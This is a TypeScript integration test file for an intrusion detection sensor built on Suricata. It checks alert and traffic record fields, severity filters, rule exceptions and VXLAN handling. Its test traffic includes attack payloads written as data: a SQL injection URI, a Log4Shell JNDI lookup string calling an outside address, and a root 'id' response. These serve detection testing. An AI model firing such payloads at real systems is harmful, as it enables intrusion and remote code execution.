// SPDX-License-Identifier: Apache-2.0
/** What comes out when packets go in: real Suricata, VXLAN to UDP 4789, in a network namespace of its own. */

import {SEVERITIES} from '@palisade/ids-wire';
import {BUNDLED_RULES} from '@palisade/sensor';
import {dnsLookup, httpExchange, udpDatagram} from '@palisade/sensor/testing';
import {describe, expect, test} from 'vitest';
import {countsOf, Lab, LabFolder, newSpec, skipReason, whyNot} from './lab/lab.ts';
import {distinctHits, hit, oneOfEach, SEVERITY_OF, SEVERITY_RULES} from './lab/rules.ts';

const LIMIT_MS = 10_000;
const PAIR = {client: '10.1.1.1', server: '10.1.1.2'};

describe.skipIf(whyNot !== undefined)(`threat and traffic records${skipReason}`, () => {
  test('I-116 I-005 a mirrored HTTP attack becomes a threat record with every field', async () => {
    using folder = new LabFolder();
    await using lab = new Lab();
    await lab.ask('create', folder.options({rules: BUNDLED_RULES}));
    const spec = newSpec();
    await lab.ask('start', spec);
    const before = Date.now();
    await lab.send(
      spec,
      httpExchange({...PAIR, clientPort: 41_234}, {uri: '/item?id=1%20UNION%20SELECT%20pass', host: 'shop.example'}),
    );
    await lab.ask('until', {alerts: 1}, LIMIT_MS);
    const {threats} = await lab.ask('records');
    expect(threats).toHaveLength(1);
    const record = threats[0]?.[1];
    expect(record).toEqual({
      threat_id: '1:9000207',
      name: 'PALISADE WEB SQL injection: UNION SELECT in the address',
      alert_severity: 'HIGH',
      type: 'vulnerability',
      category: 'web-application-attack',
      alert_time: expect.stringMatching(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ$/),
      network: spec.network,
      source_ip_address: '10.1.1.1',
      destination_ip_address: '10.1.1.2',
      source_port: '41234',
      destination_port: '80',
      ip_protocol: 'tcp',
      application: 'http',
      direction: 'client-to-server',
      session_id: expect.stringMatching(/^\d+$/),
      repeat_count: '1',
      uri_or_filename: '/item?id=1%20UNION%20SELECT%20pass',
      details: expect.stringContaining('HTTP GET shop.example/item?id=1%20UNION%20SELECT%20pass'),
      endpoint: spec.endpoint,
      event_time: expect.stringMatching(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}Z$/),
      rule_revision: '1',
      rule_priority: '1',
      references: ['https://owasp.org/www-community/attacks/SQL_Injection'],
      community_id: expect.stringMatching(/^1:.{27}=$/),
    });
    expect(Math.abs(Date.parse(record?.alert_time ?? '') - before)).toBeLessThan(LIMIT_MS);
  });

  test('I-116 the CVEs of a rule are in the record; an answer that raises a rule goes from server to client', async () => {
    using folder = new LabFolder();
    await using lab = new Lab();
    await lab.ask('create', folder.options({rules: BUNDLED_RULES}));
    const spec = newSpec();
    await lab.ask('start', spec);
    await lab.send(
      spec,
      httpExchange(PAIR, {
        headers: {'X-Api-Version': '$' + '{jndi:ldap://192.0.2.66/a}'},
        answer: 'uid=0(root) gid=0(root)\n',
      }),
    );
    await lab.ask('until', {alerts: 2}, LIMIT_MS);
    const {threats} = await lab.ask('records');
    const byId = new Map(threats.map(([, record]) => [record.threat_id, record]));
    expect(byId.get('1:9000201')).toMatchObject({
      cves: ['CVE-2021-44228'],
      direction: 'client-to-server',
      alert_severity: 'CRITICAL',
    });
    expect(byId.get('1:9000211')).toMatchObject({
      direction: 'server-to-client',
      source_ip_address: '10.1.1.2',
      destination_ip_address: '10.1.1.1',
    });
    expect(byId.get('1:9000211')).not.toHaveProperty('cves');
  });

  test.each(SEVERITIES)(
    'I-006 I-031 I-117 at %s: all at or above, none below; the same traffic for each setting',
    async severity => {
      using folder = new LabFolder();
      await using lab = new Lab();
      await lab.ask('create', folder.options({rules: [folder.file('a.rules', SEVERITY_RULES)]}));
      const spec = newSpec({severity});
      await lab.ask('start', spec);
      await lab.send(spec, oneOfEach());
      await lab.ask('stop', spec.endpoint); // reads to the end: what is not there now never comes
      const expected = Object.entries(SEVERITY_OF).filter(
        ([, of]) => SEVERITIES.indexOf(of) >= SEVERITIES.indexOf(severity),
      );
      const {threats} = await lab.ask('records');
      expect(Object.fromEntries(threats.map(([, record]) => [record.threat_id, record.alert_severity]))).toEqual(
        Object.fromEntries(expected),
      );
    },
  );

  test('I-007 I-040 I-041 I-117 excepted ids raise nothing; a bare sid means 1:sid; unknown ones are named', async () => {
    using folder = new LabFolder();
    await using lab = new Lab();
    await lab.ask('create', folder.options({rules: [folder.file('a.rules', SEVERITY_RULES)]}));
    const spec = newSpec({threatExceptions: ['1', '1:3', '1:999', 'nonsense', '3']});
    await lab.ask('start', spec);
    await lab.send(spec, oneOfEach());
    await lab.ask('until', {alerts: 6}, LIMIT_MS);
    const health = await lab.health(spec);
    expect(health.unknownExceptions).toEqual(['1:999', 'nonsense']);
    expect(health.alerts).toEqual({seen: 8, stored: 6, filtered: 0, excepted: 2, lost: 0});
    expect(Object.keys(countsOf(await lab.ask('records'))).sort()).toEqual(['1:2', '1:4', '1:5', '1:6', '1:7', '2:1']);
  });

  test('I-116 equal alerts of 5 s are one record, at once, with their number; other sources are others', async () => {
    using folder = new LabFolder();
    await using lab = new Lab();
    await lab.ask('create', folder.options({rules: [folder.file('a.rules', SEVERITY_RULES)]}));
    const spec = newSpec();
    await lab.ask('start', spec);
    await lab.send(spec, [hit('one', undefined, 5001)]);
    await lab.ask('until', {alerts: 1}, LIMIT_MS);
    await lab.send(spec, [
      hit('one', undefined, 5002),
      hit('one', undefined, 5003),
      hit('one', {client: '10.9.0.9', server: '10.9.0.2'}),
    ]);
    await lab.ask('until', {alerts: 4}, LIMIT_MS);
    const {threats} = await lab.ask('records');
    expect(threats.map(([, record]) => [record.source_ip_address, record.repeat_count]).sort()).toEqual([
      ['10.9.0.1', '3'],
      ['10.9.0.9', '1'],
    ]);
  });

  test('I-008 I-042 traffic records come only while asked for, and the change acts at once', async () => {
    using folder = new LabFolder();
    await using lab = new Lab();
    await lab.ask('create', folder.options({rules: [folder.file('a.rules', SEVERITY_RULES)]}));
    const silent = newSpec({trafficLogs: false});
    const logging = newSpec({trafficLogs: false});
    await lab.ask('start', silent);
    await lab.ask('start', logging);
    await lab.ask('update', {...logging, trafficLogs: true});
    const exchange = httpExchange({...PAIR, clientPort: 42_000}, {answer: 'x'.repeat(3000)});
    for (const spec of [silent, logging]) await lab.send(spec, exchange);
    await lab.ask('stop', silent.endpoint);
    await lab.ask('stop', logging.endpoint);
    const {traffic} = await lab.ask('records');
    expect(traffic.map(([, record]) => record)).toEqual([
      {
        start_time: expect.stringMatching(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ$/),
        elapsed_time: expect.stringMatching(/^[01]$/),
        network: logging.network,
        source_ip_address: '10.1.1.1',
        destination_ip_address: '10.1.1.2',
        source_port: '42000',
        destination_port: '80',
        ip_protocol: 'tcp',
        application: 'http',
        session_id: expect.stringMatching(/^\d+$/),
        repeat_count: '1',
        total_bytes: String(exchange.reduce((sum, frame) => sum + frame.length, 0)),
        total_packets: String(exchange.length),
        endpoint: logging.endpoint,
        event_time: expect.stringMatching(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}Z$/),
        community_id: expect.stringMatching(/^1:.{27}=$/),
      },
    ]);
  });

  test('I-042 the traffic record of a finished flow comes while the endpoint runs', async () => {
    using folder = new LabFolder();
    await using lab = new Lab();
    await lab.ask('create', folder.options({rules: [folder.file('a.rules', SEVERITY_RULES)]}));
    const spec = newSpec({trafficLogs: true});
    await lab.ask('start', spec);
    await lab.send(spec, httpExchange(PAIR, {}));
    await lab.ask('until', {traffic: 1}, 20_000);
    expect((await lab.ask('records')).traffic[0]?.[1]).toMatchObject({application: 'http', ip_protocol: 'tcp'});
  });

  test('I-118 severity and exceptions change under load: no restart, no packet lost, every alert counted once', async () => {
    using folder = new LabFolder();
    await using lab = new Lab();
    await lab.ask('create', folder.options({rules: [folder.file('a.rules', SEVERITY_RULES)]}));
    const spec = newSpec();
    await lab.ask('start', spec);
    const {pid} = await lab.health(spec);
    const load = lab.send(spec, distinctHits(2000), 1000);
    await lab.ask('until', {alerts: 200}, LIMIT_MS);
    await lab.ask('update', {...spec, threatExceptions: ['1:1']});
    await lab.send(spec, oneOfEach());
    await lab.ask('until', {alerts: 207}, LIMIT_MS);
    await load;
    await lab.ask('update', {...spec, severity: 'CRITICAL', threatExceptions: []});
    await lab.send(spec, [hit('two'), hit('one', {client: '10.77.0.1', server: '10.9.0.2'})]);
    await lab.ask('until', {seen: 2010, endpoint: spec.endpoint}, LIMIT_MS);
    await lab.ask('until', {alerts: 208}, LIMIT_MS);
    const health = await lab.health(spec);
    expect(health).toMatchObject({
      status: 'READY',
      pid,
      restarts: 0,
      packets: {received: 2010, dropped: 0, malformed: 0},
    });
    const {seen, stored, filtered, excepted, lost} = health.alerts;
    expect({seen, filtered, lost, sum: stored + filtered + excepted}).toEqual({
      seen: 2010,
      filtered: 1,
      lost: 0,
      sum: 2010,
    });
    expect(excepted).toBeGreaterThan(0);
  });

  test('I-004 endpoints are apart: each sees only what is sent to its own address', async () => {
    using folder = new LabFolder();
    await using lab = new Lab();
    await lab.ask('create', folder.options({rules: BUNDLED_RULES}));
    const [left, right] = [newSpec(), newSpec()];
    await lab.ask('start', left);
    await lab.ask('start', right);
    await lab.send(left, dnsLookup(PAIR, 'a.callback.palisade.test'));
    await lab.send(right, httpExchange(PAIR, {uri: '/.git/config'}));
    await lab.ask('until', {alerts: 2}, LIMIT_MS);
    const {threats} = await lab.ask('records');
    expect(threats.map(([, record]) => [record.endpoint, record.threat_id]).sort()).toEqual([
      [left.endpoint, '1:9000301'],
      [right.endpoint, '1:9000215'],
    ]);
  });

  test('I-005 what is no VXLAN is counted as malformed; large frames pass', async () => {
    using folder = new LabFolder();
    await using lab = new Lab();
    const big = 'alert udp any any -> any any (msg:"big"; dsize:>60000; sid:50; rev:1;)\n';
    await lab.ask('create', folder.options({rules: [folder.file('a.rules', SEVERITY_RULES + big)]}));
    const spec = newSpec({vni: 0xffffff});
    await lab.ask('start', spec);
    const huge = udpDatagram({...PAIR, serverPort: 9}, 'client', Buffer.alloc(65_400));
    await lab.send(spec, [hit('two'), huge]);
    const frames = [Buffer.alloc(40), Buffer.from('0800000000000100', 'hex'), Buffer.alloc(0)].map(frame =>
      frame.toString('base64'),
    );
    await lab.ask('send', {ip: spec.ip, vni: 0, frames, perSecond: 1000, bare: true});
    await lab.ask('until', {alerts: 2}, LIMIT_MS);
    expect(countsOf(await lab.ask('records'))).toEqual({'1:2': 1, '1:50': 1});
    expect((await lab.health(spec)).packets).toMatchObject({
      ...{
        received: 2,
        bytes: hit('two').length + huge.length,
        dropped: 0,
        malformed: 3,
        foreignVni: 0,
        refusedSender: 0,
      },
    });
  });

  test('F-12 packets with the VNI of somebody else are counted and not inspected; when there are no others the endpoint is DEGRADED', async () => {
    using folder = new LabFolder();
    await using lab = new Lab();
    const limits = {watchMs: 50};
    await lab.ask('create', folder.options({rules: [folder.file('a.rules', SEVERITY_RULES)], limits}));
    const spec = newSpec({vni: 0x010203});
    await lab.ask('start', spec);
    const foreign = [0, 0x010204, 0x020203, 0x010303, 0x0203, 0xffffff];
    for (const vni of foreign) await lab.send({...spec, vni}, [hit('one')]);
    await lab.ask('until', {status: 'DEGRADED', endpoint: spec.endpoint}, LIMIT_MS);
    expect((await lab.health(spec)).reasons).toEqual([
      'no packet has the VNI of this endpoint, 66051: all 6 of the last 60 s have another VNI, the newest 16777215; set the mirror to VNI 66051, or start the server with --accept-any-vni',
    ]);
    await lab.send(spec, [hit('two')]);
    await lab.ask('until', {status: 'READY', endpoint: spec.endpoint}, LIMIT_MS);
    expect(await lab.health(spec)).toMatchObject({
      reasons: [expect.stringMatching(/^packets with a foreign VNI are not inspected: 6 of the last 60 s, /)],
      packets: {received: 1, dropped: 0, malformed: 0, foreignVni: 6},
    });
    await lab.ask('stop', spec.endpoint);
    expect(countsOf(await lab.ask('records'))).toEqual({'1:2': 1});
  });

  test('F-12 with acceptAnyVni every VNI is inspected', async () => {
    using folder = new LabFolder();
    await using lab = new Lab();
    const rules = [folder.file('a.rules', SEVERITY_RULES)];
    await lab.ask('create', folder.options({rules, acceptAnyVni: true}));
    const spec = newSpec();
    await lab.ask('start', spec);
    await lab.send({...spec, vni: 0xffffff}, [hit('two')]);
    await lab.ask('until', {alerts: 1}, LIMIT_MS);
    expect((await lab.health(spec)).packets).toMatchObject({received: 1, dropped: 0, malformed: 0, foreignVni: 0});
  });
});
